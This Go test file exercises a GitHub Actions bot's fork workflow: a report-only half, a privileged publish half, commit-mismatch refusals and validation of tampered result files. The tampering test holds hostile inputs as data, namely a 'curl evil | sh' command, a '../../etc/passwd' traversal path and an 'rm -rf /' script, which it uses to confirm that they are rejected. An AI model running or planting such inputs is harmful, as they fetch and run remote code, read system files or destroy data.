package bot

import (
	"os"
	"strings"
	"testing"

	"github.com/storygate/storygate/internal/github/githubtest"
)

// forkPullRequest makes the recorded pull_request come from a fork.
func forkPullRequest(p map[string]any) {
	head := p["pull_request"].(map[string]any)["head"].(map[string]any)
	head["repo"].(map[string]any)["full_name"] = "someone/Hello-World"
}

// reportOnlyHalf runs the unprivileged half of the fork flow.
func reportOnlyHalf(t *testing.T, h *harness) {
	t.Helper()
	h.event("pull_request", "pull_request.opened", forkPullRequest)
	code := h.action()
	if code != failed {
		t.Fatalf("report-only got %s, want 1\n%s", code, h.stderr.String())
	}
	if n := len(h.fake.Calls()); n != 0 {
		t.Fatalf("report-only made %d API calls", n)
	}
	if !strings.Contains(h.stdout.String(), "::error file=stories/STORY-003.md") || !strings.Contains(h.stdout.String(), "::notice file=stories/STORY-002.md") {
		t.Errorf("report-only must annotate through workflow commands:\n%s", h.stdout.String())
	}
	if summary, err := os.ReadFile(h.summary); err != nil || !strings.Contains(string(summary), "STORY-003") {
		t.Errorf("step summary: %v %q", err, summary)
	}
}

// publishHalf switches to the privileged workflow_run half.
func publishHalf(t *testing.T, h *harness, prHead string) {
	t.Helper()
	h.fake.AddPullRequest(prRepo, githubtest.PullRequest{Number: prNumber, HeadSHA: prHead, HeadRepo: "someone/Hello-World"})
	h.event("workflow_run", "workflow_run.completed")
	if err := os.WriteFile(h.summary, nil, 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestForkFlowReportOnlyThenPublish(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, h.head)
	if code := h.publish(h.results); code != passed {
		t.Fatalf("publish got %s\n%s", code, h.stderr.String())
	}
	runs := h.fake.CheckRuns()
	if len(runs) != 3 || runs[0].HeadSHA != h.head || runs[0].Conclusion != "failure" || len(runs[0].Annotations) == 0 {
		t.Errorf("published check runs: %+v", runs)
	}
	if !strings.HasSuffix(runs[0].DetailsURL, "/actions/runs/1589141559") {
		t.Errorf("details URL %q must come from the workflow_run event", runs[0].DetailsURL)
	}
	if comments := h.fake.Comments(prRepo, prNumber); len(comments) != 1 {
		t.Errorf("want one comment, got %d", len(comments))
	}
	if code := h.publish(h.results); code != passed || len(h.fake.Comments(prRepo, prNumber)) != 1 {
		t.Errorf("publishing twice must keep one comment (got %s)", code)
	}
}

func TestPublishRefusesAPullRequestAtAnotherCommit(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, strings.Repeat("d", 40))
	code := h.publish(h.results)
	if code != usageFailure || !strings.Contains(h.stderr.String(), "refusing to publish") || len(h.fake.CheckRuns()) != 0 || len(h.fake.Comments(prRepo, prNumber)) != 0 {
		t.Errorf("got %s, %d runs: %s", code, len(h.fake.CheckRuns()), h.stderr.String())
	}
}

func TestPublishRefusesADocumentForAnotherCommit(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, h.head)
	h.head = strings.Repeat("f", 40) // the workflow run is about another commit
	h.event("workflow_run", "workflow_run.completed")
	if code := h.publish(h.results); code != usageFailure || len(h.fake.Calls()) != 0 {
		t.Errorf("got %s, %d calls", code, len(h.fake.Calls()))
	}
}

func TestPublishValidatesTheDocumentAsData(t *testing.T) {
	h := newHarness(t)
	reportOnlyHalf(t, h)
	publishHalf(t, h, h.head)
	data, _ := os.ReadFile(h.results)
	for name, tampered := range map[string]string{
		"unknown field":     strings.Replace(string(data), `"version": 1,`, `"version": 1, "command": "curl evil | sh",`, 1),
		"forged conclusion": strings.Replace(string(data), `"conclusion": "failure",`+"\n  \"counts\"", `"conclusion": "success",`+"\n  \"counts\"", 1),
		"escaping path":     strings.Replace(string(data), `"file": "stories/STORY-003.md"`, `"file": "../../etc/passwd"`, 1),
		"not JSON":          "#!/bin/sh\nrm -rf /\n",
	} {
		if tampered == string(data) {
			t.Fatalf("%s: the edit did not apply", name)
		}
		path := h.tmp + "/tampered.json"
		if err := os.WriteFile(path, []byte(tampered), 0o644); err != nil {
			t.Fatal(err)
		}
		if code := h.publish(path); code != usageFailure || len(h.fake.Calls()) != 0 {
			t.Errorf("%s: got %s, %d calls: %s", name, code, len(h.fake.Calls()), h.stderr.String())
		}
	}
}

func TestActionExplicitReportOnlyWritesNothing(t *testing.T) {
	h := newHarness(t)
	h.event("pull_request", "pull_request.opened")
	if code := h.action(func(o *ActionOptions) { o.ReportOnly = "true" }); code != failed || len(h.fake.Calls()) != 0 {
		t.Errorf("got %s, %d calls", code, len(h.fake.Calls()))
	}
}

func TestActionFallsBackToReportOnlyOnAReadOnlyToken(t *testing.T) {
	h := newHarness(t)
	h.event("pull_request", "pull_request.opened")
	h.fake.FailNext(1, 403, nil, "Resource not accessible by integration")
	code := h.action()
	if code != failed || !strings.Contains(h.stdout.String(), "::warning title=storygate::") || !strings.Contains(h.stdout.String(), "::error file=") {
		t.Errorf("got %s, stdout:\n%s", code, h.stdout.String())
	}
}
